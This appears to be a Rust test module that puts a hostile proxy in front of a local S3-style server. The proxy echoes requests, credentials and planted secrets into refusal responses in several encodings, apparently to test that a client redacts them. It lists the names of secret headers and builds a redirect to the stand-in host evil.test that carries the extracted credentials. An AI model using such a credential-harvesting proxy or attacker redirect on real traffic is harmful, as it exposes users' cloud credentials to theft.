//! A hostile proxy before an honest endpoint: each refusal is replaced by an echo of the request, secrets and
//! all, in every place and coding; and it remembers which secrets it was sent.

use super::codings;
use std::collections::BTreeSet;
use std::io::{Read as _, Write as _};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::{Arc, Mutex};
use std::thread;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

/// Names of headers, parameters and form fields whose values are secret.
const NAMES: [&str; 9] = [
    "x-amz-security-token",
    "x-amz-server-side-encryption-customer-key",
    "x-amz-copy-source-server-side-encryption-customer-key",
    "x-amz-signature",
    "signature",
    "chunk-signature",
    "x-amz-trailer-signature",
    "policy",
    "authorization",
];

/// A proxy for one address; it lives as long as the process.
pub(super) struct Echo {
    pub(super) address: SocketAddr,
    seen: Arc<Mutex<BTreeSet<String>>>,
    coded: Arc<Mutex<Vec<String>>>,
}

impl Echo {
    /// An echo before `server` that also reveals `secrets`, which no request holds, each time in another chain of codings.
    pub(super) fn before(server: SocketAddr, secrets: &'static [&'static str]) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap();
        let seen = Arc::new(Mutex::new(BTreeSet::new()));
        let noted = Arc::clone(&seen);
        let coded = Arc::new(Mutex::new(Vec::new()));
        let revealed = Arc::clone(&coded);
        thread::spawn(move || {
            for client in listener.incoming().map_while(Result::ok) {
                let (noted, revealed) = (Arc::clone(&noted), Arc::clone(&revealed));
                // A connection that one side gives up is the business of the scenario that did.
                thread::spawn(move || relay(client, server, &noted, secrets, &revealed));
            }
        });
        Self { address, seen, coded }
    }

    /// The secrets that went over the wire.
    pub(super) fn seen(&self) -> BTreeSet<String> {
        self.seen.lock().unwrap().clone()
    }

    /// The chains of codings that went over the wire.
    pub(super) fn coded(&self) -> Vec<String> {
        self.coded.lock().unwrap().clone()
    }
}

fn relay(
    mut client: TcpStream,
    server: SocketAddr,
    seen: &Mutex<BTreeSet<String>>,
    secrets_of_server: &[&str],
    revealed: &Mutex<Vec<String>>,
) -> Option<()> {
    let mut server = TcpStream::connect(server).ok()?;
    let (mut from, mut to) = (client.try_clone().ok()?, server.try_clone().ok()?);
    let request = Arc::new(Mutex::new(Vec::new()));
    let copy = Arc::clone(&request);
    thread::spawn(move || {
        let mut piece = [0; 16 << 10];
        while let Ok(count @ 1..) = from.read(&mut piece) {
            let mut copy = copy.lock().unwrap();
            let room = (64_usize << 10).saturating_sub(copy.len());
            copy.extend_from_slice(&piece[..count.min(room)]);
            drop(copy);
            to.write_all(&piece[..count]).ok()?;
        }
        to.shutdown(std::net::Shutdown::Write).ok()
    });
    let mut response = Vec::new();
    let _ = server.read_to_end(&mut response);
    let request = request.lock().unwrap().clone();
    seen.lock().unwrap().extend(secrets(&request));
    let refused = response.strip_prefix(b"HTTP/1.1 ").is_some_and(|rest| rest.starts_with(b"4"));
    let response = if refused {
        let mut revealed = revealed.lock().unwrap();
        let number = revealed.len();
        let coded = codings::coded(secrets_of_server[number % secrets_of_server.len()], number.wrapping_mul(1009));
        revealed.push(coded.clone());
        drop(revealed);
        with_echo(&response, &request, &coded)
    } else {
        response
    };
    client.write_all(&response).ok()
}

/// The response with the request in its header and in its message, as text and encoded.
fn with_echo(response: &[u8], request: &[u8], coded: &str) -> Vec<u8> {
    let text = String::from_utf8_lossy(response);
    let Some((head, body)) = text.split_once("\r\n\r\n") else { return response.to_vec() };
    let start = &request[..request.len().min(4096)];
    let plain: String = String::from_utf8_lossy(start).chars().filter(|c| !c.is_control()).collect();
    let hex: String = start.iter().map(|byte| format!("{byte:02x}")).collect();
    let echo = escaped(&plain);
    let bare = secrets(request).into_iter().collect::<Vec<_>>().join(" ");
    let status = format!("{} {coded}", head.lines().next().unwrap_or_default());
    let body = if body.contains("<Message>") {
        body.replacen("<Message>", &format!("<Message>{} {} {echo} ", escaped(coded), escaped(&bare)), 1)
    } else {
        body.to_owned()
    };
    let body = format!(
        "{body}<!-- {} {} {} {} -->",
        escaped(coded).replace("--", "- -"),
        STANDARD.encode(start),
        hex,
        escaped(&bare).replace("--", "- -")
    );
    let length = body.len();
    format!(
        "{status}\r\nContent-Type: application/xml\r\nLocation: http://evil.test/?{bare}\r\nX-Echo: {plain}\r\nX-Debug: {coded}\r\n\
         X-Coded: {}\r\nServer: {bare}\r\nConnection: close\r\nContent-Length: {length}\r\n\r\n{body}",
        STANDARD.encode(start)
    )
    .into_bytes()
}

fn escaped(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
}

/// What follows a secret name, up to the end of its value, decoded.
fn secrets(request: &[u8]) -> BTreeSet<String> {
    let text = String::from_utf8_lossy(request);
    let lower = text.to_ascii_lowercase();
    let mut found = BTreeSet::new();
    for name in NAMES {
        for (at, _) in lower.match_indices(name) {
            let rest = &text[at + name.len()..];
            let form = rest.strip_prefix("\"\r\n\r\n").and_then(|value| value.split("\r\n").next());
            let value = form.or_else(|| {
                let value = rest.strip_prefix('=').or_else(|| rest.strip_prefix(": "))?;
                value.split(['&', ' ', '\r', '\n', ',', ';', '"']).next()
            });
            let value = value.map(|value| value.replace("%2F", "/").replace("%2B", "+").replace("%3D", "="));
            found.extend(value.filter(|value| value.len() >= 16 && !value.starts_with("AWS4-HMAC")));
        }
    }
    found
}

#[test]
fn the_secrets_of_a_request_are_noticed() {
    let request = b"PUT /b?X-Amz-Security-Token=FwoG%2Ftokentokentoken HTTP/1.1\r\nAuthorization: AWS4-HMAC-SHA256 \
        Credential=AKIA/1/r/s3/aws4_request, SignedHeaders=host, Signature=0123456789abcdef\r\n\r\n\
        --x\r\nContent-Disposition: form-data; name=\"policy\"\r\n\r\neyJleHBpcmF0aW9uIjo=\r\n";
    let found: Vec<String> = secrets(request).into_iter().collect();
    assert_eq!(found, ["0123456789abcdef", "FwoG/tokentokentoken", "eyJleHBpcmF0aW9uIjo="]);
}
